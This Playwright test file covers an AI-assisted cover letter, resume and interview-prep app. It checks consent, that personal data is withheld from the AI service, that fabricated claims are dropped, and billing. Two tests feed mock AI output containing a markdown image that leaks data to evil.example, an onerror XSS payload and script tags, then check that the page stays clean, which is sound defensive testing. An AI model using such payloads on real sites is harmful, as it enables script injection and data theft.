import type { Page } from '@playwright/test'
import { startingBalance } from '#contract/tokens.ts'
import { expectSent, letterFor, readPreview, test } from './support/ai.ts'
import { still } from './support/inspect.ts'
import { expect } from './support/journey.ts'
import { type Member, newPerson, readUser } from './support/people.ts'

const ready = (page: Page) => page.getByRole('heading', { name: 'Your Cover Letter is Ready!' })
const underWay = (page: Page) => page.getByRole('heading', { name: 'We are writing your letter' })
const consentStep = (page: Page) => page.getByRole('heading', { name: 'Privacy & Consent Required' })
const button = (page: Page, name: string | RegExp) => page.getByRole('main').getByRole('button', { name })
const label = (page: Page, text: string) => page.getByRole('main').getByText(text, { exact: true })
const balanceOf = async ({ api }: Pick<Member, 'api'>) => (await readUser(api)).tokenBalance ?? Number.NaN
const documentsOf = async ({ api }: Pick<Member, 'api'>) => (await (await api.get('/api/documents')).json()).documents

async function agree(page: Page): Promise<void> {
  for (const box of await page.getByRole('group', { name: 'Privacy and consent' }).getByRole('checkbox').all())
    await box.check()
}

const baked = 'I baked bread with my grandmother every Sunday.'

async function askForLetter(page: Page): Promise<void> {
  await page.goto('/coveroptimizer?career=Baker')
  await page.getByLabel('Additional Information').fill(baked)
  await button(page, /^Generate Cover Letter/).click()
  await agree(page)
  await button(page, 'Continue').click()
}

test.beforeEach(({ service }) => {
  service.requests.length = 0
  service.faults.length = 0
  service.holdUntil = undefined
  service.answerWith(letterFor(/baked bread/))
})

test('what she is shown is what is sent, and what is not true of her comes back as a question', async ({
  open,
  service,
}) => {
  const page = await open(still)
  const person = { ...newPerson('Tamsin'), username: 'Tamsin Okonkwo' }
  const hers = [/tamsin/i, /okonkwo/i, /555-0134/, /canary street/i, /62704/, /@example\.org/]
  const left = (tokens: number) => page.getByRole('banner').getByText(`${tokens} tokens`).first()
  const lie = 'I led a team of 12 engineers.'
  service.answerWith(letterFor(/baked bread/, sign => [{ text: lie, facts: [sign] }]))

  await test.step('she makes her account', async () => {
    await page.goto('/register')
    await page.getByLabel('Username', { exact: true }).fill(person.username)
    await page.getByLabel('Email', { exact: true }).fill(person.email)
    await page.getByLabel('Password', { exact: true }).fill(person.password)
    await page.getByLabel('Confirm password', { exact: true }).fill(person.password)
    await button(page, 'Create Account').click()
    await page.waitForURL('**/dashboard')
    await expect(left(startingBalance)).toBeAttached()
  })

  const shown = await test.step('before she allows anything she sees it all, with signs for who she is', async () => {
    await page.goto('/coveroptimizer?career=Baker')
    await page.getByLabel('Employer (optional)').fill('Sunrise Bakery')
    await page
      .getByLabel('Additional Information')
      .fill(
        `${baked}\nI am Tamsin Okonkwo, ${person.email}, +1 (415) 555-0134, 12 Canary Street, Springfield, IL 62704.`,
      )
    await button(page, /^Generate Cover Letter/).click()
    await expect(consentStep(page)).toBeVisible()
    const { words, parts } = await readPreview(page)
    expect(words).toMatch(/This goes to .+ \(127\.0\.0\.1.*, model stand-in\), and nothing else\./)
    expect(words).toMatch(/a sign in the place of 1 name, .*1 e-mail address/)
    expect(words).toContain('Sunrise Bakery')
    expect(words).toContain(baked)
    for (const each of hers) expect(words).not.toMatch(each)
    expect(service.requests).toEqual([])
    return parts
  })

  await test.step('she allows it, and exactly that is sent', async () => {
    await agree(page)
    await button(page, 'Continue').click()
    await expect(ready(page)).toBeVisible()
    const [sent, ...more] = service.requests
    expect(more).toEqual([])
    expectSent(sent, shown)
    for (const each of hers) expect(JSON.stringify(sent?.body)).not.toMatch(each)
  })

  await test.step('the letter says who wrote it, and holds no lie', async () => {
    await expect(label(page, 'AI-generated')).toBeVisible()
    await expect(left(startingBalance - 3)).toBeAttached()
    await expect(page.getByRole('region', { name: 'Only you know this' })).toContainText(`Left out: "${lie}"`)
    await button(page, 'View Cover Letter').click()
    const letter = page.getByRole('dialog')
    await expect(letter).toContainText(baked)
    await expect(letter).toContainText('Sunrise Bakery')
    await expect(letter).not.toContainText('engineers')
  })
})

test('words of the service that would run or load something never reach the page', async ({
  open,
  member,
  service,
}) => {
  const her = await member()
  const before = await balanceOf(her)
  const page = await open({ storageState: her.storageState, ...still })
  const words =
    'I like it. ![cat](https://evil.example/leak?data=name) <img src="https://evil.example/x.png" onerror="window.__xss = 1"><script>window.__xss = 1</script>'
  service.answerWith(letterFor(/baked bread/, () => [{ text: words, facts: [] }]))
  await askForLetter(page)
  await expect(ready(page)).toBeVisible()
  expect(service.requests).toHaveLength(1)
  await expect(label(page, 'Written by Wayspark · free')).toBeVisible()
  await button(page, 'View Cover Letter').click()
  await expect(page.getByRole('dialog')).toContainText(baked)
  expect(await page.content()).not.toMatch(/evil\.example|__xss/)
  expect(await page.evaluate(() => '__xss' in window)).toBe(false)
  expect(await balanceOf(her)).toBe(before)
})

test('she cancels while the service says nothing: it is broken off, and nothing is charged or kept', async ({
  open,
  member,
  service,
}) => {
  const her = await member()
  const before = await balanceOf(her)
  const page = await open({ storageState: her.storageState, ...still })
  service.faults.push('hang')
  await askForLetter(page)
  await service.asked(1)
  await expect(page.getByRole('status').filter({ hasText: 'Asking for a first draft...' })).toBeVisible()
  await button(page, 'Cancel').click()
  await expect(page.getByText('Nothing was charged. What you wrote is still here.')).toBeVisible()
  await expect(page.getByLabel('Additional Information')).toHaveValue(baked)
  await expect.poll(() => service.requests.map(({ brokenOff }) => brokenOff)).toEqual([true])
  expect(await balanceOf(her)).toBe(before)
  expect(await documentsOf(her)).toEqual([])
})

test('where the service fails, our own writer writes, for nothing, and the page says so', async ({
  open,
  member,
  service,
}) => {
  const her = await member()
  const before = await balanceOf(her)
  const page = await open({ storageState: her.storageState, ...still })
  service.faults.push('error-500', 'error-500')
  await askForLetter(page)
  await expect(ready(page)).toBeVisible()
  await expect(label(page, 'Written by Wayspark · free')).toBeVisible()
  await expect(page.getByRole('main')).not.toContainText('nothing was sent anywhere')
  await button(page, 'View Cover Letter').click()
  await expect(page.getByRole('dialog')).toContainText(baked)
  expect(service.requests).toHaveLength(2)
  expect(await balanceOf(her)).toBe(before)
})

test('a reload in the middle finds the work again, which is done and charged once', async ({
  open,
  member,
  service,
}) => {
  const her = await member()
  const before = await balanceOf(her)
  const page = await open({ storageState: her.storageState, ...still })
  const { promise: answered, resolve: letGo } = Promise.withResolvers<void>()
  service.holdUntil = answered
  await askForLetter(page)
  await service.asked(1)
  await expect(underWay(page)).toBeVisible()
  await page.reload()
  await expect(underWay(page)).toBeVisible()
  await expect(page.getByRole('status').filter({ hasText: 'Asking for a first draft...' })).toBeVisible()
  await expect(page.getByRole('progressbar')).not.toHaveAttribute('aria-valuenow', '0')
  letGo()
  await expect(ready(page)).toBeVisible()
  await expect(label(page, 'AI-generated')).toBeVisible()
  expect(service.requests).toHaveLength(1)
  expect(await balanceOf(her)).toBe(before - 3)
  expect(await documentsOf(her)).toHaveLength(1)
})

test('consent taken back in another tab holds for the very next letter', async ({ open, member, service }) => {
  const her = await member()
  const before = await balanceOf(her)
  const page = await open({ storageState: her.storageState, ...still })
  await askForLetter(page)
  await expect(ready(page)).toBeVisible()
  await button(page, 'Generate Another').click()

  const tab = await page.context().newPage()
  await tab.goto('/settings/consent')
  await button(tab, 'Withdraw: Cover letter tool').click()
  await tab.getByRole('dialog').getByRole('button', { name: 'Withdraw consent' }).click()
  await expect(tab.getByText('Consent Withdrawn')).toBeVisible()

  await button(page, /^Generate Cover Letter/).click()
  await expect(consentStep(page)).toBeVisible()
  expect(service.requests).toHaveLength(1)
  expect(await balanceOf(her)).toBe(before - 3)
  await agree(page)
  await button(page, 'Continue').click()
  await expect(ready(page)).toBeVisible()
  expect(service.requests).toHaveLength(2)
  expect(await balanceOf(her)).toBe(before - 6)
})

const resume = `Tamsin Okonkwo
tamsin.okonkwo@example.org
+44 7700 900123
Leeds, UK

Work experience
Barista, The Blue Cup, Leeds, UK
Jun 2024 - present
- I was responsible for making coffee for our guests
- Was in charge of the till in the evening

Skills
Excel, Polish`

test('a resume is worded by the service, without her contact data and without its lie', async ({
  open,
  member,
  service,
}) => {
  const her = await member()
  const before = await balanceOf(her)
  const page = await open({ storageState: her.storageState, ...still })
  service.answerWith(({ text }) => {
    const signOf = (line: string) => new RegExp(`^(L\\d+): .*${line}`, 'm').exec(text)?.[1] ?? ''
    const change = { reason: 'stronger-verb', facts: [] }
    return {
      changes: [
        { ...change, line: signOf('making coffee'), better: 'Made coffee for our guests' },
        { ...change, line: signOf('the till'), better: 'Led a team of 12 engineers at the till in the evening' },
      ],
    }
  })
  await page.goto('/ai-resume')
  await page.getByLabel('Or paste your resume here').fill(resume)
  await agree(page)
  await button(page, 'Next').click()
  await page.getByRole('tab', { name: 'An advert' }).click()
  await page.getByLabel('Job title').fill('Receptionist')
  const { parts } = await readPreview(page)
  expect(service.requests).toEqual([])
  await button(page, /^Optimize my resume/).click()
  await expect(page.getByRole('heading', { name: 'Your resume for Receptionist' })).toBeVisible()
  await expect(label(page, 'AI-generated')).toBeVisible()
  await expect(page.getByRole('main')).toContainText('Made coffee for our guests')
  await expect(page.getByRole('main')).not.toContainText('engineers')
  await page.getByRole('tab', { name: 'Advice' }).click()
  await expect(page.getByRole('region', { name: 'Only you know this' })).toBeVisible()
  const [sent, ...more] = service.requests
  expect(more).toEqual([])
  expectSent(sent, parts)
  expect(JSON.stringify(sent?.body)).not.toMatch(/tamsin|okonkwo|900123|leeds/i)
  expect(await balanceOf(her)).toBe(before - 3)
})

test('interview questions of the service: as plain text, labelled and charged, and nothing of her is sent', async ({
  open,
  member,
  service,
}) => {
  const her = await member({ quiz: true })
  const best = her.results?.suggestions[0]?.title ?? ''
  const before = await balanceOf(her)
  const page = await open({ storageState: her.storageState, ...still })
  const good = Array.from({ length: 10 }, (_, place) => ({
    text: `What would you do first on day ${place + 1}?`,
    kind: 'situation',
  }))
  const harmful = ['What is this? ![x](https://evil.example/x.png)', 'Why? <script>window.__xss = 1</script>']
  service.answerWith({ questions: [...harmful.map(text => ({ text, kind: 'story' })), ...good] })
  await page.goto('/interview-prep')
  await button(page, `Get questions 3 tokens for ${best}`).click()
  const questions = page.getByRole('region', { name: /^Questions for / })
  await expect(questions.getByRole('heading', { level: 3 })).toHaveCount(10)
  await expect(questions).toContainText('What would you do first on day 10?')
  await expect(label(page, 'AI-generated')).toBeVisible()
  expect(await page.content()).not.toMatch(/evil\.example|__xss/)
  const { username, email } = her.person
  for (const hers of [username, email])
    expect(JSON.stringify(service.requests.map(({ body }) => body))).not.toContain(hers)
  expect(service.requests).toHaveLength(1)
  expect(await balanceOf(her)).toBe(before - 3)
})
